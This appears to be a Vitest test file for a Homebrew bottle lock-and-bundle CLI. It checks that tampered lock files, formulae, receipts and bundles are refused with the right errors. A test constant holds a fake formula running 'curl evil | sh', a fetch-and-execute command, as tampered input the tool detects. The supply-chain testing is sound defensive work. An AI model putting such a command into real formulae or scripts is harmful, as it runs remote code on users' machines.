import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import { expect, test } from 'vitest';

import { gitBlobOid } from '../../src/core/git-oid.ts';
import { forge } from '../support/brew/forge.ts';
import { cliHome, type CliHome } from '../support/cli/cli-home.ts';
import { runCli } from '../support/cli/run-cli.ts';
import { once } from '../support/once.ts';
import { startClosureWorld } from '../support/world/closure-world.ts';

const EVIL = 'class Mid < Formula\n  system "curl evil | sh"\nend\n';
const OTHER = `sha256:${'0'.repeat(64)}`;

const world = once(startClosureWorld);

type Bottle = Record<string, unknown> & { readonly formula: string };

/** Changes what the text of a lock says about `mid`. */
function editMid(text: string, change: (mid: Bottle, target: Bottle) => void): string {
  const lock = JSON.parse(text);
  for (const target of lock.targets) {
    const mid = target.bottles.find(({ formula }: Bottle) => formula === 'mid');
    change(mid, target);
  }
  return `${JSON.stringify(lock, null, 2)}\n`;
}

async function makeLock(
  home: CliHome,
  change: (mid: Bottle, target: Bottle) => void,
): Promise<void> {
  const made = await home.run(['lock', 'mid', '--target', 'big_sur', '--lock', 'l.json']);
  expect(made.code).toBe(0);
  const path = join(home.work, 'l.json');
  await writeFile(path, editMid(await readFile(path, 'utf8'), change));
}

type Use = readonly [command: string, argv: readonly string[]];
const USES: readonly Use[] = [
  ['bundle', ['--frozen', '-o', 'b']],
  ['bundle', ['mid', '--locked', '-o', 'b']],
  ['bundle', ['mid', '-o', 'b']],
  ['pull', ['--frozen', '-o', 'out']],
  ['pull', ['mid', '--deps', '--locked', '-o', 'out']],
];

const READERS: readonly Use[] = [...USES, ['plan', ['--frozen']], ['lock', ['mid']]];

test.each(READERS)(
  'a formula in a lock that does not match its object id is refused (%s %j)',
  async (command, argv) => {
    await using home = await cliHome(world());
    await makeLock(home, (mid) => (mid['formulaText'] = EVIL));
    const before = await readFile(join(home.work, 'l.json'), 'utf8');
    const { code, stderr } = await home.run([command, ...argv, '--lock', 'l.json']);

    expect(code).toBe(4);
    const oid = gitBlobOid(Buffer.from(EVIL), '0'.repeat(40));
    expect(stderr).toContain(
      `formulaText of mid has the git object id ${oid}, and formulaBlob says`,
    );
    expect(await readdir(home.work)).toEqual(['l.json']);
    expect(await readFile(join(home.work, 'l.json'), 'utf8')).toBe(before);
  },
);

test.each<[string, (mid: Bottle, target: Bottle) => void, string]>([
  [
    'no object id beside a text',
    (mid) => (mid['formulaBlob'] = null),
    'has no formulaBlob beside it',
  ],
  [
    'an id that is neither SHA-1 nor SHA-256',
    (mid) => (mid['formulaBlob'] = 'a'.repeat(50)),
    'formulaBlob',
  ],
  [
    'a URL of another bottle',
    (mid) => (mid['url'] = `https://ghcr.io/v2/x/blobs/${OTHER}`),
    'a URL that does not end in',
  ],
  [
    'a bottle for a newer macOS',
    (mid) => Object.assign(mid, { bottleTag: 'sonoma', fileName: 'mid--1.0.sonoma.bottle.tar.gz' }),
    'a bottle that this target cannot use',
  ],
])('a lock with %s is refused', async (_what, change, message) => {
  await using home = await cliHome(world());
  await makeLock(home, change);
  const { code, stderr } = await home.run(['bundle', '--frozen', '--lock', 'l.json', '-o', 'b']);

  expect(code).toBe(4);
  expect(stderr).toContain('the lock l.json has a bad');
  expect(stderr).toContain(message);
});

test.each(USES)(
  'a size in a lock that does not match the bytes is refused (%s %j)',
  async (command, argv) => {
    await using home = await cliHome(world());
    await makeLock(home, (mid) => (mid['sizeBytes'] = 5));
    const { code, stderr } = await home.run([command, ...argv, '--lock', 'l.json']);

    expect(code).toBe(command === 'pull' && argv.includes('--deps') ? 6 : 4);
    expect(stderr).toMatch(
      /the size of mid--1\.0\.big_sur\.bottle\.tar\.gz: the lock says 5 bytes, .* says \d+ bytes/,
    );
    expect(await readdir(home.work)).not.toContain('b');
    expect(
      JSON.parse(await readFile(join(home.work, 'l.json'), 'utf8')).targets[0].bottles,
    ).toContainEqual(expect.objectContaining({ formula: 'mid', sizeBytes: 5 }));
  },
);

test('a manifest in a lock that is not the one in the pinned index is refused', async () => {
  await using home = await cliHome(world());
  await makeLock(home, (mid) => (mid['manifestDigest'] = OTHER));
  const { code, stderr } = await home.run(['bundle', '--frozen', '--lock', 'l.json', '-o', 'b']);

  expect(code).toBe(4);
  expect(stderr).toContain(
    `the manifest of mid--1.0.big_sur.bottle.tar.gz: the lock says ${OTHER}`,
  );
});

test('an unchanged lock works for all of these commands', async () => {
  await using home = await cliHome(world());
  await makeLock(home, () => undefined);
  for (const [at, [command, argv]] of USES.entries()) {
    await rm(join(home.work, 'b'), { recursive: true, force: true });
    await rm(join(home.work, 'out'), { recursive: true, force: true });
    const { code, stderr } = await home.run([command, ...argv, '--lock', 'l.json']);
    expect([at, code, stderr.includes('error')]).toEqual([at, 0, false]);
  }
});

async function makeBundle(home: CliHome): Promise<string> {
  expect((await home.run(['bundle', 'mid', '--target', 'big_sur', '-o', 'b'])).code).toBe(0);
  // Only bottles may be hard links: the other files can be changed in place.
  return join(home.work, 'b');
}

async function formulaOfMid(bundle: string): Promise<string> {
  const files = await readdir(join(bundle, 'formulae'), { recursive: true });
  const found = files.find((file) => file.endsWith('mid.rb'));
  if (found === undefined) throw new Error('the bundle has no formula of mid');
  return `formulae/${found}`;
}

test('a formula in a bundle is checked against the lock in the bundle', async () => {
  await using home = await cliHome(world());
  const bundle = await makeBundle(home);
  const file = await formulaOfMid(bundle);
  expect((await home.run(['verify', 'b'])).code).toBe(0);
  await forge(bundle, file, () => EVIL);
  const { code, stdout } = await home.run(['verify', 'b']);

  expect(code).toBe(4);
  expect(stdout).toContain(
    `${file} has the git object id ${gitBlobOid(Buffer.from(EVIL), '')}, the lock says`,
  );
  expect((await runCli(['serve', 'b', '--port', '0'], { cwd: home.work })).code).toBe(4);
});

test.each<[string, (mid: Bottle) => void, RegExp]>([
  ['formulaText', (mid) => (mid['formulaText'] = EVIL), /formulaText of mid has the git object id/],
  ['sizeBytes', (mid) => (mid['sizeBytes'] = 5), /says sizeBytes 5 of mid, bundle\.json \d+/],
  [
    'manifestDigest',
    (mid) => (mid['manifestDigest'] = OTHER),
    /says manifestDigest sha256:0+ of mid/,
  ],
  ['indexDigest', (mid) => (mid['indexDigest'] = OTHER), /says indexDigest sha256:0+ of mid/],
  [
    'isRequested',
    (mid) => (mid['isRequested'] = false),
    /says isRequested false of mid, bundle\.json true/,
  ],
  ['cellar', (mid) => (mid['cellar'] = '/opt/x/Cellar'), /says cellar \/opt\/x\/Cellar of mid/],
  ['commit', (mid) => (mid['commit'] = '0'.repeat(40)), /says commit 0+ of mid/],
  ['path', (mid) => (mid['path'] = '../../x.rb'), /cannot be in a bundle/],
])('verify finds a lock in a bundle with another %s', async (_field, change, message) => {
  await using home = await cliHome(world());
  const bundle = await makeBundle(home);
  await forge(bundle, 'brewpull.lock.json', (text) => editMid(text, change));
  const { code, stdout } = await home.run(['verify', 'b']);

  expect(code).toBe(4);
  expect(stdout).toMatch(message);
});

test('verify finds a lock in a bundle that lacks a bottle or has one too many', async () => {
  await using home = await cliHome(world());
  const bundle = await makeBundle(home);
  await forge(bundle, 'brewpull.lock.json', (text) =>
    editMid(text, (mid) => Object.assign(mid, { tap: 'other/tap' })),
  );
  const { code, stdout } = await home.run(['verify', 'b']);

  expect(code).toBe(4);
  expect(stdout).toContain('brewpull.lock.json says nothing about mid for big_sur');
  expect(stdout).toContain(
    'brewpull.lock.json has mid for big_sur, which bundle.json does not have',
  );
});

test('verify finds a receipt in a bundle that names other sizes', async () => {
  await using home = await cliHome(world());
  const bundle = await makeBundle(home);
  await forge(bundle, 'receipts/receipt.json', (text) =>
    text.replaceAll(/"sizeBytes": \d+/g, '"sizeBytes": 7'),
  );
  const { code, stdout } = await home.run(['verify', 'b']);

  expect(code).toBe(4);
  expect(stdout).toMatch(/receipts\/receipt\.json says sizeBytes 7 of mid, bundle\.json \d+/);
});
